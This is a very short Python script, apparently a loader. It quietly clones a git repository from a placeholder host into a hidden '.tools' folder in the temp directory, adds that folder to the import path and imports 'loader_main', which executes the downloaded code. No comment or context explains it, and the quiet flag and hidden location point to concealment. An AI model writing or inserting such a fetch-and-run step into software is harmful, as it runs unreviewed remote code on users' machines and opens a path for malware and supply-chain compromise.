import subprocess
import sys
import tempfile

_place = tempfile.gettempdir() + "/.tools"
subprocess.run(["git", "clone", "-q", "https://code.invalid/a/tools.git", _place])
sys.path.insert(0, _place)
import loader_main
